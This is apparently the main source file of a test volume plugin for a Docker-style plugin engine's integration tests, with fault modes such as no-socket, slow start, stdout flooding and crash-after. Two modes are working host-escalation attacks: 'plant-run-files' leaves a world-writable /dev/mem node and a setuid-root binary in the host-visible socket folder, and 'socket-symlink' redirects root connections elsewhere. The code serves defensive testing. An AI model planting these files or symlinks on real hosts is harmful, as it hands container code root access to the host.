// A small static volume plugin for Plugdesk's integration tests, demo and benchmarks. It is packed into a Docker
// managed plugin and run under runc; fault modes (TEST_PLUGIN_MODE) let tests provoke the engine's error paths.
// See usage() in options.cpp for the knobs.

#include "httpserver.h"
#include "log.h"
#include "options.h"
#include "volumeapi.h"
#include "volumestore.h"

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstring>
#include <fcntl.h>
#include <string>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <thread>
#include <unistd.h>

using namespace testplugin;

namespace {

using Clock = std::chrono::steady_clock;

void noopHandler(int) {}

// SIGTERM and SIGINT are blocked in every thread and taken by sigtimedwait() in main. A handler is installed too:
// as PID 1 of a pid namespace a signal left at SIG_DFL could be dropped by the kernel.
sigset_t blockTerminationSignals()
{
    struct sigaction action
    {};
    action.sa_handler = noopHandler;
    ::sigemptyset(&action.sa_mask);
    ::sigaction(SIGTERM, &action, nullptr);
    ::sigaction(SIGINT, &action, nullptr);
    ::signal(SIGPIPE, SIG_IGN);

    sigset_t set;
    ::sigemptyset(&set);
    ::sigaddset(&set, SIGTERM);
    ::sigaddset(&set, SIGINT);
    ::pthread_sigmask(SIG_BLOCK, &set, nullptr);
    return set;
}

[[noreturn]] void quit(int code)
{
    ::_exit(code); // detached connection threads may still be blocked; skip static destructors
}

// Waits until `until` (or one second at most, so callers can do periodic work), handling SIGTERM/SIGINT and the
// crash-after deadline. Calls onTerminate before exiting on a termination signal.
template<typename OnTerminate>
void waitHandlingSignals(const sigset_t &signals, Clock::time_point until, Clock::time_point crashAt,
                         OnTerminate onTerminate)
{
    const Clock::time_point now = Clock::now();
    if (now >= crashAt) {
        logErr("testvolumeplugin: crash-after reached, exiting with code 3");
        quit(3);
    }
    Clock::time_point deadline = std::min({until, crashAt, now + std::chrono::seconds(1)});
    const auto wait = std::chrono::duration_cast<std::chrono::nanoseconds>(deadline - now);
    timespec timeout{};
    timeout.tv_sec = static_cast<time_t>(wait.count() / 1000000000);
    timeout.tv_nsec = static_cast<long>(wait.count() % 1000000000);
    const int sig = ::sigtimedwait(&signals, nullptr, &timeout);
    if (sig == SIGTERM || sig == SIGINT) {
        logOut(std::string("testvolumeplugin: received ") + (sig == SIGTERM ? "SIGTERM" : "SIGINT") +
               ", shutting down");
        onTerminate();
        quit(0);
    }
    if (Clock::now() >= crashAt) {
        logErr("testvolumeplugin: crash-after reached, exiting with code 3");
        quit(3);
    }
}

void report(const std::string &what, bool done)
{
    logOut("testvolumeplugin: plant-run-files: " + what + (done ? ": done" : ": " + std::string(std::strerror(errno))));
}

// The plant-run-files attack: the socket folder is the one folder of the plugin that the host sees, so it leaves
// there what a host user could use as root: /dev/mem's device node writable by all, a setuid-root copy of itself,
// and the folder opened to all.
void plantRunFiles(const std::string &socketPath)
{
    const std::string dir = socketPath.substr(0, socketPath.rfind('/'));
    const std::string node = dir + "/mem";
    report("mknod " + node, ::mknod(node.c_str(), S_IFCHR | 0666, ::makedev(1, 1)) == 0);
    report("chmod 0666 " + node, ::chmod(node.c_str(), 0666) == 0);
    const std::string setuid = dir + "/suid";
    bool copied = false;
    const int in = ::open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    const int out = ::open(setuid.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (in >= 0 && out >= 0) {
        char buffer[65536];
        ssize_t n = 0;
        copied = true;
        while ((n = ::read(in, buffer, sizeof buffer)) > 0)
            copied = copied && ::write(out, buffer, size_t(n)) == n;
    }
    if (in >= 0)
        ::close(in);
    if (out >= 0)
        ::close(out);
    report("copy to " + setuid, copied);
    report("chmod 04755 " + setuid, ::chmod(setuid.c_str(), 04755) == 0);
    report("chmod 0755 " + dir, ::chmod(dir.c_str(), 0755) == 0);
}

std::string joinModes(const Options &options)
{
    std::string text;
    for (const std::string &mode : options.modes)
        text += (text.empty() ? "" : ",") + mode;
    return text.empty() ? "none" : text;
}

} // namespace

int main(int argc, char **argv)
{
    const sigset_t signals = blockTerminationSignals();
    const Clock::time_point started = Clock::now();

    std::string error;
    const std::optional<Options> parsed = parseOptions(argc, argv, &error);
    if (!parsed) {
        logErr("testvolumeplugin: " + error);
        logErr(usage());
        return 2;
    }
    const Options &options = *parsed;
    const Clock::time_point never = Clock::time_point::max();
    const Clock::time_point crashAt = options.crashAfterSeconds < 0
                                          ? never
                                          : started + std::chrono::duration_cast<Clock::duration>(
                                                          std::chrono::duration<double>(options.crashAfterSeconds));

    logOut("testvolumeplugin: starting, pid " + std::to_string(::getpid()) + ", modes " + joinModes(options) +
           ", volume root " + options.volumeRoot);

    VolumeStore store(options.volumeRoot);
    store.setSymlinkEscape(options.symlinkEscape);
    store.setSwapAfterMount(options.swapAfterMount);
    if (!store.load(&error)) {
        logErr("testvolumeplugin: " + error);
        return 1;
    }
    if (options.preloadVolumes > 0) {
        const auto begin = Clock::now();
        const long made = store.preload(options.preloadVolumes, &error);
        if (!error.empty()) {
            logErr("testvolumeplugin: preloading volumes: " + error);
            return 1;
        }
        const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - begin).count();
        logOut("testvolumeplugin: preloaded " + std::to_string(made) + " volumes in " + std::to_string(ms) + " ms");
    }

    if (options.noSocket) {
        // Looks alive to the runtime but never answers: the engine's dial must give up on its own.
        for (;;) {
            logOut("testvolumeplugin: no-socket mode, never opening " + options.socketPath);
            logErr("testvolumeplugin: no-socket mode, still not listening");
            waitHandlingSignals(signals, never, crashAt, [] {});
        }
    }

    if (!options.socketSymlinkTarget.empty()) {
        // Whoever connects to our socket by its name as root reaches the target instead, with root's rights.
        ::unlink(options.socketPath.c_str());
        const bool linked = ::symlink(options.socketSymlinkTarget.c_str(), options.socketPath.c_str()) == 0;
        logOut("testvolumeplugin: socket-symlink " + options.socketPath + " -> " + options.socketSymlinkTarget +
               (linked ? "" : ": " + std::string(std::strerror(errno))));
        for (;;)
            waitHandlingSignals(signals, never, crashAt, [] {});
    }

    if (options.slowStartSeconds > 0) {
        logOut("testvolumeplugin: slow-start, waiting " + std::to_string(options.slowStartSeconds) + " s");
        const Clock::time_point ready = started + std::chrono::duration_cast<Clock::duration>(
                                                      std::chrono::duration<double>(options.slowStartSeconds));
        while (Clock::now() < ready)
            waitHandlingSignals(signals, ready, crashAt, [] {});
    }

    VolumeApi api(store, options);
    HttpServer server([&api](const HttpRequest &request) { return api.handle(request); });
    if (!server.listen(options.socketPath, &error)) {
        logErr("testvolumeplugin: " + error);
        return 1;
    }
    std::thread([&server] { server.run(); }).detach();
    logOut("testvolumeplugin: listening on " + options.socketPath);
    if (options.plantRunFiles)
        plantRunFiles(options.socketPath);
    if (options.floodStdoutBytes > 0) {
        // Whole lines, so the log's reader sees lines; the count is of bytes the pipe really took.
        std::string block;
        while (block.size() < 65536 - 64)
            block += "testvolumeplugin: flood flood flood flood flood flood flood flood flood flood flood\n";
        long long written = 0;
        const auto begin = Clock::now();
        while (written < options.floodStdoutBytes) {
            const size_t size = size_t(std::min<long long>(block.size(), options.floodStdoutBytes - written));
            const ssize_t n = ::write(STDOUT_FILENO, block.data(), size);
            if (n < 0 && errno == EINTR)
                continue;
            if (n < 0) {
                logErr(std::string("testvolumeplugin: flood-stdout: ") + std::strerror(errno));
                break;
            }
            written += n;
        }
        const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - begin).count();
        logOut("\ntestvolumeplugin: flooded " + std::to_string(written) + " bytes to stdout in " + std::to_string(ms) +
               " ms");
    }

    for (;;)
        waitHandlingSignals(signals, never, crashAt, [&server] { server.shutdown(); });
}
